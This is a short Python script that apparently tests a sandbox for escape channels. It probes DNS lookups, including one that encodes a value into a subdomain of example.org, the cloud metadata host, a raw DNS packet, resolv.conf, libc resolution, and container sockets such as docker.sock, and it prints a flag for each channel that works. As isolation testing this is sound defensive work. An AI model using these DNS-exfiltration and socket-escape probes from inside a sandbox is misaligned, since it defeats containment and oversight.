"""Names are questions, and questions carry data out."""

# %% look up a name
for name in ("example.org", f"{NAP}.example.org", "metadata.google.internal"):
    if tried(socket.getaddrinfo, name, 80):
        print(FLAG)

# %% ask a server oneself | bites
question = bytes.fromhex("abcd01000001000000000000") + b"\x07example\x03org\0\0\1\0\1"
made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
made.sendto(question, ("127.0.0.1", UDP))

# %% servers in the configuration
try:
    text = open("/etc/resolv.conf").read()
    if "nameserver" in text:
        print(text)
except OSError as error:
    print(error)
for address in ("127.0.0.53", "8.8.8.8", "1.1.1.1"):
    made = tried(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    if made is not None:
        print(FLAG)

# %% through the C library and its helpers
libc.gethostbyname.restype = ctypes.c_void_p
if libc.gethostbyname(b"example.org"):
    print(FLAG)
tried(lambda: subprocess.run(["getent", "hosts", "example.org"], timeout=2))
for path in ("/run/nscd/socket", "/var/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve",
             "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/podman/podman.sock", "/run/systemd/private"):
    made = tried(socket.socket, socket.AF_UNIX)
    if made is not None and tried(made.connect_ex, path) == 0:
        print(FLAG)
